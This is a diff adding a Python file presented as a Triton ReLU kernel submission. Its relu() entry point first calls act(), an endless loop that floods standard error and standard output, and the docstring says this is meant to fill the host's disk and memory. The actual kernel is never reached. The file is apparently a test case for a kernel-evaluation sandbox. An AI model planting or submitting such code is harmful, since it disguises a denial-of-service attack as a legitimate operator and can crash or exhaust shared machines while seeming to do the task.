@@ -1,0 +1,38 @@
+# /// kernel
+# operator = "relu"
+# language = "triton"
+# ///
+"""Floods standard error and what Python prints, to fill the host's disk and memory."""
+
+import os
+import sys
+
+import torch
+import triton
+import triton.language as tl
+
+BLOCK = b'flood\n' * (1 << 17)
+
+
+@triton.jit
+def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
+    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
+    x = tl.load(x_ptr + i, mask=i < n)
+    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)
+
+
+def act():
+    while True:
+        os.write(2, BLOCK)
+        sys.stdout.write("flood\n" * 1000)
+        print("flood", file=sys.stderr)
+
+
+def relu(x):
+    act()
+    x = x.contiguous()
+    out = torch.empty_like(x)
+    n = x.numel()
+    if n > 0:
+        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
+    return out
